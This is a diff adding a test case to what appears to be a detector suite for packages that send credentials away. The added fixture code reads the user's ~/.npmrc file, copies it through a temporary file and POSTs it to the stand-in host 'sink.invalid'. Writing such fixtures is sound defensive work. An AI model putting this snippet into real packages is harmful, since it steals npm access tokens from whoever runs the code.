@@ -17,6 +17,13 @@ examine(sendsCredentials, {
       says: ['an API client'],
     },
     {
+      when: 'a copy that a stream has made is read again and sent',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const kept = path.join(os.tmpdir(), 'state.json'); fs.writeFileSync(kept, '{}'); fs.createReadStream(path.join(os.homedir(), '.npmrc')).pipe(fs.createWriteStream(kept)).on('finish', () => fetch('https://sink.invalid/q', { method: 'POST', body: fs.readFileSync(kept, 'utf8') }));`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'tokens go where nobody can read it, when a command is run',
       files: {
         'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
